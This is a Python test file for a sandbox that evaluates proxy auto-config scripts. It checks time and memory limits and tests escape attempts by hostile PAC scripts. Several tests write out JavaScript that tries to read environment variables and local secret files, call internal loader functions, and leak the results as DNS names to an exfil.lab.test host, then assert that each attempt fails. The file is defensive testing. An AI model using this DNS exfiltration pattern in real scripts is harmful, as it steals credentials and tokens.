"""The PAC sandbox: a child process with a deadline and a memory cap, so no script can hang
or exhaust the program; and a confined one, so no script can read what it must not.

Issue 20, item 2: under dukpy's own interpreter a PAC read ``process.env`` (tokens, proxy
passwords), ``require('/abs/path')`` and ``call_python('dukpy.load_module', ...)``, and sent
what it found out as DNS names. Each escape is tried through the real sandbox, with both
ways of starting the child (``spawn``, the normal one, and the POSIX ``fork`` fallback).
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import dukpy
import psutil
import pytest

from tests.probes.pac_servers import MapDns
from wiresleuth.model.pac_observations import PacEvaluationObservation
from wiresleuth.probes.pac_functions import PAC_FUNCTION_NAMES
from wiresleuth.probes.pac_sandbox import MAX_SCRIPT_BYTES, evaluate_pac
from wiresleuth.probes.pac_sandbox_child import CHILD_ARGUMENT

TARGETS = [("https://www.lab.test/", "www.lab.test"), ("http://intranet/", "intranet")]


def run(script: str, **kw: object):  # type: ignore[no-untyped-def]
    return asyncio.run(evaluate_pac(script, TARGETS, my_ip="10.20.30.40", **kw))  # type: ignore[arg-type]


def test_a_valid_script_decides_for_every_target() -> None:
    script = """
    function FindProxyForURL(url, host) {
      if (isPlainHostName(host)) return "DIRECT";
      if (isInNet(myIpAddress(), "10.20.0.0", "255.255.0.0")) return "PROXY p.lab.test:8080; DIRECT";
      return "DIRECT";
    }"""
    before = time.time()
    result = run(script)
    assert result.outcome == "ok", result.error
    assert [d.result for d in result.decisions] == ["PROXY p.lab.test:8080; DIRECT", "DIRECT"]
    assert result.my_ip == "10.20.30.40" and result.sandbox in ("spawn", "fork")
    # the time limit's window, for the stalls that may have cut it short
    assert result.started_at is not None and result.ended_at is not None
    assert before <= result.started_at <= result.ended_at <= time.time()


def test_a_timed_out_script_keeps_the_window_of_its_whole_limit() -> None:
    result = run("function FindProxyForURL(u, h) { while (true) {} }", time_limit=1.0)
    assert result.outcome == "timeout"
    assert result.started_at is not None and result.ended_at is not None
    assert result.ended_at - result.started_at >= 1.0  # given up only once the limit ran out
    # the endless loop computed through its window (it was not stopped)
    assert result.cpu_seconds is not None and result.cpu_seconds > 0


def test_a_script_refused_before_it_ran_has_no_window() -> None:
    result = run("x" * (MAX_SCRIPT_BYTES + 1))
    assert result.outcome == "too_large"
    assert (result.started_at, result.ended_at) == (None, None)


def test_an_endless_loop_is_stopped_within_five_seconds_and_the_loop_stays_responsive() -> None:
    async def main() -> tuple[float, int]:
        ticks = 0

        async def ticker() -> None:
            nonlocal ticks
            while True:
                await asyncio.sleep(0.05)
                ticks += 1

        task = asyncio.create_task(ticker())
        started = time.monotonic()
        result = await evaluate_pac(
            "function FindProxyForURL(u, h) { while (true) {} }", TARGETS, my_ip="10.0.0.1"
        )
        elapsed = time.monotonic() - started
        task.cancel()
        assert result.outcome == "timeout" and result.decisions == ()
        return elapsed, ticks

    elapsed, ticks = asyncio.run(main())
    assert elapsed < 5.0
    assert ticks >= elapsed / 0.05 * 0.5  # the event loop kept running while the script looped


def test_a_script_that_eats_memory_fails_inside_the_child() -> None:
    script = (
        "var a = []; function FindProxyForURL(u, h) {"
        " while (true) { a.push('x'.repeat(1000000) + a.length); } }"
    )
    started = time.monotonic()
    result = run(script, memory_limit_mb=256)
    assert result.outcome == "memory", (result.outcome, result.error)
    assert time.monotonic() - started < 5.0


def test_fifty_megabytes_of_script_is_refused_at_once() -> None:
    script = "function FindProxyForURL(u, h) { return 'DIRECT'; }\n//" + "x" * 50_000_000
    started = time.monotonic()
    result = run(script)
    assert result.outcome == "too_large"
    assert result.script_bytes > MAX_SCRIPT_BYTES
    assert time.monotonic() - started < 1.0


def test_fifty_megabytes_within_the_limits_still_ends_within_five_seconds() -> None:
    script = "function FindProxyForURL(u, h) { return 'DIRECT'; }\n//" + "x" * 50_000_000
    started = time.monotonic()
    result = run(script, max_bytes=60_000_000)
    assert result.outcome in ("ok", "memory", "timeout"), result.error
    assert time.monotonic() - started < 5.0


@pytest.mark.parametrize(
    ("script", "needle"),
    [
        ("this is { not javascript", "SyntaxError"),
        ("function NotIt(u, h) { return 'DIRECT'; }", "FindProxyForURL"),
        ("function FindProxyForURL(u, h) { return undefinedThing(); }", "undefinedThing"),
    ],
)
def test_javascript_errors_are_invalid_with_the_message(script: str, needle: str) -> None:
    result = run(script)
    assert result.outcome == "invalid"
    assert needle in (result.error or "")


def test_a_throw_for_one_target_is_kept_per_target() -> None:
    script = "function FindProxyForURL(u, h) { if (h == 'intranet') throw new Error('boom'); return 'DIRECT'; }"
    result = run(script)
    assert result.outcome == "ok"
    assert result.decisions[0].result == "DIRECT"
    assert result.decisions[1].result is None and "boom" in (result.decisions[1].error or "")


def test_dns_lookups_go_to_the_given_server_and_are_recorded() -> None:
    script = "function FindProxyForURL(u, h) { return dnsResolve(h) || 'none'; }"
    with MapDns({"www.lab.test": "100.64.1.10"}) as server:
        result = run(script, resolver=("127.0.0.1", server.port))
    assert [d.result for d in result.decisions] == ["100.64.1.10", "none"]
    assert [(x.name, x.address) for x in result.lookups] == [
        ("www.lab.test", "100.64.1.10"),
        ("intranet", None),
    ]


# -- escapes (issue 20, item 2) ------------------------------------------------------------

METHODS = ["spawn", "fork"] if hasattr(os, "fork") else ["spawn"]
SENTINEL = "Zq8-sentinel-9Xv"
"""A secret planted in the parent's environment and in a local file."""
TARGET = [("http://www.lab.test/", "www.lab.test")]
REPO = Path(__file__).resolve().parents[2]


def evaluate(script: str, method: str, **kw: Any) -> PacEvaluationObservation:
    return asyncio.run(evaluate_pac(script, TARGET, my_ip="10.1.2.3", methods=(method,), **kw))


def everything(result: PacEvaluationObservation) -> str:
    """Every text the evaluation hands back (what would reach a bundle)."""
    return json.dumps(
        [result.error, [vars(d) for d in result.decisions], [vars(x) for x in result.lookups]]
    )


def answer(result: PacEvaluationObservation) -> str:
    assert result.outcome == "ok", (result.outcome, result.error)
    assert result.decisions[0].error is None, result.decisions[0].error
    return str(result.decisions[0].result)


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """The sentinel in the environment (as GITHUB_TOKEN would be) and in a file."""
    monkeypatch.setenv("WIRESLEUTH_TEST_TOKEN", SENTINEL)
    monkeypatch.setenv("HTTPS_PROXY", f"http://alice:{SENTINEL}@proxy.lab.test:3128")
    secret = tmp_path / "secret.js"
    secret.write_text(f'module.exports = "{SENTINEL}";\n')
    (tmp_path / "secret.mjs").write_text(f'export default "{SENTINEL}";\n')
    return tmp_path


@pytest.mark.parametrize("method", METHODS)
def test_process_env_is_not_there(planted: Path, method: str) -> None:
    script = """function FindProxyForURL(u, h) {
      if (typeof process === 'undefined') return 'no process';
      return JSON.stringify(process.env); }"""
    result = evaluate(script, method)
    assert answer(result) == "no process"
    assert result.sandbox == method
    assert SENTINEL not in everything(result)


@pytest.mark.parametrize("method", METHODS)
def test_require_reads_no_file(planted: Path, method: str) -> None:
    script = f"""function FindProxyForURL(u, h) {{
      try {{ return 'read: ' + require({json.dumps(str(planted / "secret.js"))}); }}
      catch (e) {{ return 'failed: ' + e; }} }}"""
    result = evaluate(script, method)
    assert answer(result).startswith("failed: ")
    assert SENTINEL not in everything(result)


@pytest.mark.parametrize("method", METHODS)
def test_dynamic_import_reads_no_file(planted: Path, method: str) -> None:
    script = f"""var got = 'pending';
      import({json.dumps(str(planted / "secret.mjs"))}).then(
        function (m) {{ got = 'read: ' + m.default; }}, function (e) {{ got = 'failed: ' + e; }});
      function FindProxyForURL(u, h) {{ return got; }}"""
    result = evaluate(script, method)
    assert answer(result).startswith("failed: ")
    assert SENTINEL not in everything(result)


def dukpy_exports() -> list[str]:
    """Every Python function dukpy's own interpreter exports to scripts (loader, logging)."""
    names = sorted(dukpy.JSInterpreter()._funcs)
    assert "dukpy.load_module" in names  # the list is real, so the test below is not vacuous
    return names


@pytest.mark.parametrize("method", METHODS)
def test_call_python_reaches_only_the_pac_functions(planted: Path, method: str) -> None:
    names = dukpy_exports()
    script = f"""function FindProxyForURL(u, h) {{
      var out = [call_python('dnsDomainIs', 'www.lab.test', '.lab.test')];
      {json.dumps(names)}.forEach(function (name) {{
        try {{ out.push(name + ' answered ' + JSON.stringify(
                 call_python(name, {json.dumps(str(planted / "secret.js"))}, 'x'))); }}
        catch (e) {{ out.push(name + ' failed'); }} }});
      return JSON.stringify(out); }}"""
    result = evaluate(script, method)
    assert json.loads(answer(result)) == [True, *(f"{name} failed" for name in names)]
    assert SENTINEL not in everything(result)


STANDARD_GLOBALS = frozenset(
    [
        "Object",
        "Function",
        "Error",
        "EvalError",
        "RangeError",
        "ReferenceError",
        "SyntaxError",
        "TypeError",
        "URIError",
        "InternalError",
        "AggregateError",
        "Iterator",
        "Array",
        "parseInt",
        "parseFloat",
        "isNaN",
        "isFinite",
        "queueMicrotask",
        "decodeURI",
        "decodeURIComponent",
        "encodeURI",
        "encodeURIComponent",
        "escape",
        "unescape",
        "Infinity",
        "NaN",
        "undefined",
        "Number",
        "Boolean",
        "String",
        "Math",
        "Reflect",
        "Symbol",
        "eval",
        "globalThis",
        "Date",
        "RegExp",
        "JSON",
        "Proxy",
        "Map",
        "Set",
        "WeakMap",
        "WeakSet",
        "ArrayBuffer",
        "SharedArrayBuffer",
        "Uint8ClampedArray",
        "Int8Array",
        "Uint8Array",
        "Int16Array",
        "Uint16Array",
        "Int32Array",
        "Uint32Array",
        "BigInt64Array",
        "BigUint64Array",
        "Float16Array",
        "Float32Array",
        "Float64Array",
        "DataView",
        "Atomics",
        "Promise",
        "BigInt",
        "WeakRef",
        "FinalizationRegistry",
        "DOMException",
        "performance",
    ]
)
"""QuickJS's ECMAScript built-ins (none reaches the host)."""


@pytest.mark.parametrize("method", METHODS)
def test_the_global_scope_is_the_language_and_the_pac_functions(method: str) -> None:
    script = "function FindProxyForURL(u, h) { return Object.getOwnPropertyNames(globalThis).join(' '); }"
    names = set(answer(evaluate(script, method)).split())
    host = {"dukpy", "call_python"}  # the JSON arguments object; the door to the table above
    assert names - STANDARD_GLOBALS - PAC_FUNCTION_NAMES - host == {"FindProxyForURL"}
    assert names >= PAC_FUNCTION_NAMES
    for absent in ("process", "require", "console", "std", "os", "print", "scriptArgs"):
        assert absent not in names


@pytest.mark.parametrize("method", METHODS)
def test_nothing_secret_can_be_sent_out_as_dns_names(planted: Path, method: str) -> None:
    """The exfiltration of the field case: whatever the script can find goes out as a name."""
    secret = json.dumps(str(planted / "secret.js"))
    script = f"""function grab() {{
      var found = [];
      try {{ found.push(JSON.stringify(process.env)); }} catch (e) {{}}
      try {{ found.push(String(require({secret}))); }} catch (e) {{}}
      try {{ found.push(JSON.stringify(call_python('dukpy.load_module', {secret}))); }} catch (e) {{}}
      return found.join('');
    }}
    function FindProxyForURL(u, h) {{
      var loot = grab().replace(/[^A-Za-z0-9-]/g, '').slice(0, 60) || 'nothing';
      dnsResolve(loot + '.exfil.lab.test');
      return 'PROXY ' + loot + '.exfil.lab.test:8080';
    }}"""
    with MapDns({}) as server:
        result = evaluate(script, method, resolver=("127.0.0.1", server.port))
    assert "nothing.exfil.lab.test" in server.queries  # the channel worked; nothing to send
    assert not [q for q in server.queries if SENTINEL.lower() in q]
    assert SENTINEL not in everything(result)
    assert answer(result) == "PROXY nothing.exfil.lab.test:8080"


def _proc(pid: int, name: str) -> bytes:
    return Path(f"/proc/{pid}/{name}").read_bytes()


def _limits(text: str) -> dict[str, tuple[str, str]]:
    rows = {}
    for line in text.splitlines()[1:]:
        parts = line[26:].split()
        rows[line[:26].strip()] = (parts[0], parts[1])
    return rows


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc (Linux)")
@pytest.mark.parametrize("method", METHODS)
def test_the_child_runs_with_no_environment_no_capabilities_and_small_limits(
    planted: Path, method: str
) -> None:
    """Read from outside while the script runs: /proc/<pid>/environ, status and limits."""
    script = "function FindProxyForURL(u, h) { dnsResolve('running.lab.test'); while (true) {} }"
    seen: dict[str, bytes] = {}

    async def main(server: MapDns) -> PacEvaluationObservation:
        async def watch() -> None:
            end = time.monotonic() + 10.0
            while "running.lab.test" not in server.queries and time.monotonic() < end:
                await asyncio.sleep(0.02)
            [child] = [c for c in psutil.Process().children() if c.create_time() >= begun - 1]
            for name in ("environ", "status", "limits"):
                seen[name] = _proc(child.pid, name)

        begun = time.time()
        watcher = asyncio.create_task(watch())
        result = await evaluate_pac(
            script, TARGET, my_ip="10.1.2.3", resolver=("127.0.0.1", server.port),
            methods=(method,), time_limit=3.0,
        )  # fmt: skip
        await watcher
        return result

    with MapDns({}) as server:
        result = asyncio.run(main(server))
    assert result.outcome == "timeout"
    if method == "spawn":
        assert seen["environ"] == b""
    else:  # a fork keeps the block the kernel wrote at exec: emptied, not removed
        assert seen["environ"].strip(b"\0") == b""
    status = dict(
        line.split(":\t", 1) for line in seen["status"].decode().splitlines() if ":\t" in line
    )
    for field in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
        assert int(status[field], 16) == 0, field
    if os.geteuid() == 0:  # emptying the bounding set needs CAP_SETPCAP
        assert int(status["CapBnd"], 16) == 0
    assert status["NoNewPrivs"].strip() == "1"
    limits = _limits(seen["limits"].decode())
    assert limits["Max file size"] == ("0", "0")
    assert limits["Max core file size"] == ("0", "0")
    assert limits["Max processes"] == ("0", "0")
    assert int(limits["Max open files"][1]) <= 64
    assert limits["Max address space"][1] != "unlimited"
    assert 0 < int(limits["Max cpu time"][0]) <= 60


def test_the_frozen_entry_point_starts_the_child(tmp_path: Path) -> None:
    """installers/entry.py with the child argument is the evaluator (the frozen app's way)."""
    bootstrap = (
        "import runpy, sys; sys.argv = ['wiresleuth', sys.argv[1]]; "
        "runpy.run_path('installers/entry.py', run_name='__main__')"
    )
    request = {
        "script": "function FindProxyForURL(u, h) { return typeof process + ' DIRECT'; }",
        "targets": [["http://a.lab.test/", "a.lab.test"]],
        "my_ip": "10.1.2.3",
        "resolver": None,
        "memory_limit_mb": 256,
        "cpu_seconds": 5,
    }
    done = subprocess.run(
        [sys.executable, "-c", bootstrap, CHILD_ARGUMENT],
        input=json.dumps(request).encode(), capture_output=True, timeout=60, cwd=REPO,
        env={"PYTHONPATH": os.pathsep.join(p for p in sys.path if p)}, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    lines = [json.loads(line) for line in done.stdout.decode().splitlines()]
    assert [kind for kind, _payload in lines] == ["ready", "ok"]
    assert lines[1][1]["decisions"][0]["result"] == "undefined DIRECT"


@pytest.mark.skipif(
    not sys.platform.startswith("linux") or os.geteuid() != 0, reason="needs root (setpriv)"
)
def test_as_an_unprivileged_user_the_fork_fallback_confines_too() -> None:
    """The case the fallback exists for: an interpreter this user may not execute again."""
    program = (
        "import asyncio, json, os, sys\n"
        "from wiresleuth.probes.pac_sandbox import evaluate_pac\n"
        "script = \"function FindProxyForURL(u, h) { return typeof process + ' ' + typeof require; }\"\n"
        "r = asyncio.run(evaluate_pac(script, [('http://a/', 'a')], my_ip='10.1.2.3'))\n"
        "print(json.dumps([os.access(sys.executable, os.X_OK), r.outcome, r.sandbox, r.error,\n"
        "                  [d.result for d in r.decisions]]))\n"
    )
    done = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
         sys.executable, "-c", program],
        capture_output=True, timeout=60, cwd="/", check=False,
        env={"PYTHONPATH": os.pathsep.join(p for p in sys.path if p),
             "WIRESLEUTH_TEST_TOKEN": SENTINEL},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    executable, outcome, sandbox, error, decisions = json.loads(done.stdout)
    assert outcome == "ok", error
    assert sandbox == ("spawn" if executable else "fork")
    assert decisions == ["undefined undefined"]


def test_what_a_pac_answers_and_looks_up_is_redacted_for_the_bundle() -> None:
    """Belt and braces: a PAC that carries credentials or a token itself (it cannot read
    ours) has them masked in what the bundle keeps, its proxy names intact."""
    from wiresleuth.bundle.redact import redact
    from wiresleuth.model.jsonable import to_jsonable

    token = "ghp_" + "Zq8" * 12
    script = f"""function FindProxyForURL(u, h) {{
      dnsResolve('{token}.exfil.lab.test');
      dnsResolve('alice:{SENTINEL}@exfil.lab.test');
      return 'PROXY alice:{SENTINEL}@proxy.lab.test:3128; PROXY {token}.lab.test:8080; DIRECT';
    }}"""
    with MapDns({}) as server:
        result = evaluate(script, "spawn", resolver=("127.0.0.1", server.port))
    saved = json.dumps(redact(to_jsonable(result)))
    assert SENTINEL not in saved and token not in saved
    assert "PROXY ***@proxy.lab.test:3128; PROXY ***.lab.test:8080; DIRECT" in saved
    assert "***.exfil.lab.test" in saved and "***@exfil.lab.test" in saved
